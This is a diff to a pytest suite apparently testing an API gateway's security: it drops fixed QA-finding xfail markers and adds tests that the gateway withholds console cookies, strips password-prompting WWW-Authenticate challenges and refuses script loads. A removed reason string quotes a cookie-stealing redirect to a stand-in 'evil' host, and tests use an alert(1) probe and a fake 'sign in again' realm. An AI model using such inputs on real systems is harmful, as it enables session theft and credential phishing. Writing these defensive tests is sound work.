@@ -33,11 +33,6 @@ def call(demo: DemoSummary, **headers: str) -> Any:
 # -- 1. the console's cookies reach the assembly ------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="QA finding 1: the gateway hands the console's Cookie header (sessionid, csrftoken) to assemblies; "
-    "an assembly redirecting to Location: https://evil/?c=$(request.headers.cookie) steals an admin session",
-)
 def test_an_assembly_cannot_read_the_consoles_cookies(demo: DemoSummary, sandbox: Catalog, actor: Actor) -> None:
     publish(sandbox, actor, [{"set": "message.body", "value": "[$(request.headers.cookie)]", "type": "string"}])
 
@@ -60,11 +55,6 @@ def test_an_assembly_reads_other_request_headers(demo: DemoSummary, sandbox: Cat
 # -- 2. bad input from the caller is a 500 -----------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="QA finding 3: a request header that set-variable cannot convert (type number) answers 500, "
-    "not 400 (tokens.assembly set-variable conversion raises a non-request AssemblyError)",
-)
 def test_a_request_value_set_variable_cannot_convert_is_a_400(
     demo: DemoSummary, sandbox: Catalog, actor: Actor
 ) -> None:
@@ -88,21 +78,11 @@ def test_a_request_value_set_variable_converts_is_answered(demo: DemoSummary, sa
 # -- 3. a status code no HTTP answer can carry ---------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="QA finding 4: message.status.code 1000 publishes, then every call answers '500 OK' with an empty "
-    "body, no JSON shape and no log line (tokens.views._response_from)",
-)
 def test_a_status_code_out_of_range_is_refused_at_publish(sandbox: Catalog, actor: Actor) -> None:
     with pytest.raises((PolicyConfigError, PublishError)):
         publish(sandbox, actor, [{"set": "message.status.code", "value": 1000, "type": "number"}])
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="QA finding 4: an assembly that sets only message.status.code 201 answers '201 OK': the default "
-    "reason 'OK' is kept for every status (tokens.views._response_from)",
-)
 def test_a_status_without_a_reason_gets_its_own_phrase(demo: DemoSummary, sandbox: Catalog, actor: Actor) -> None:
     publish(sandbox, actor, [{"set": "message.status.code", "value": 201, "type": "number"}])
 
@@ -130,11 +110,6 @@ def test_a_status_with_its_reason_is_answered(demo: DemoSummary, sandbox: Catalo
 # -- 4. a body on a status that has none ---------------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="QA finding 5: a 204 answer carries the assembly's body and Content-Length (RFC 9110 15.3.5 forbids "
-    "content on 204/304; on a kept-alive connection the bytes are read as the next answer)",
-)
 def test_a_204_answer_has_no_body(demo: DemoSummary, sandbox: Catalog, actor: Actor) -> None:
     publish(
         sandbox,
@@ -166,3 +141,67 @@ def test_a_200_answer_has_its_body(demo: DemoSummary, sandbox: Catalog, actor: A
 
     assert answer.status == 200
     assert answer.body == b"HTTP/1.1 200 OK"
+
+
+# -- 5. an assembly asking the browser for a password; an answer loaded as a script ---------------------------
+
+
+@pytest.mark.parametrize(
+    "challenge", ['Basic realm="console: sign in again"', 'Bearer realm="api", Digest realm="x"', "NTLM"]
+)
+def test_an_assembly_cannot_make_the_browser_prompt_for_a_password(
+    demo: DemoSummary, sandbox: Catalog, actor: Actor, challenge: str
+) -> None:
+    publish(
+        sandbox,
+        actor,
+        [
+            {"set": "message.status.code", "value": 401, "type": "number"},
+            {"set": "message.headers.WWW-Authenticate", "value": challenge, "type": "string"},
+        ],
+    )
+
+    answer = call(demo)
+
+    assert answer.status == 401
+    assert "www-authenticate" not in {name.lower() for name in answer.headers}
+
+
+def test_an_assembly_may_send_a_bearer_challenge(demo: DemoSummary, sandbox: Catalog, actor: Actor) -> None:
+    """The twin: RFC 6750's challenge prompts nothing and passes."""
+    publish(
+        sandbox,
+        actor,
+        [
+            {"set": "message.status.code", "value": 401, "type": "number"},
+            {"set": "message.headers.WWW-Authenticate", "value": 'Bearer realm="api"', "type": "string"},
+        ],
+    )
+
+    answer = call(demo)
+
+    assert answer.headers["www-authenticate"] == 'Bearer realm="api"'
+
+
+@pytest.mark.parametrize("destination", ["script", "style", "worker", "serviceworker"])
+def test_a_browser_cannot_load_a_gateway_answer_as_a_script(
+    demo: DemoSummary, sandbox: Catalog, actor: Actor, destination: str
+) -> None:
+    publish(sandbox, actor, [{"set": "message.body", "value": "alert(1)", "type": "string"}])
+
+    answer = call(demo, **{"Sec-Fetch-Dest": destination})
+
+    assert answer.status == 403
+    assert b"alert" not in answer.body
+
+
+@pytest.mark.parametrize("destination", ["document", "empty"])
+def test_a_browser_may_open_or_fetch_a_gateway_answer(
+    demo: DemoSummary, sandbox: Catalog, actor: Actor, destination: str
+) -> None:
+    """The twin: a page opened, or fetch()/XMLHttpRequest, is answered."""
+    publish(sandbox, actor, [{"set": "message.body", "value": "alert(1)", "type": "string"}])
+
+    answer = call(demo, **{"Sec-Fetch-Dest": destination})
+
+    assert (answer.status, answer.body) == (200, b"alert(1)")
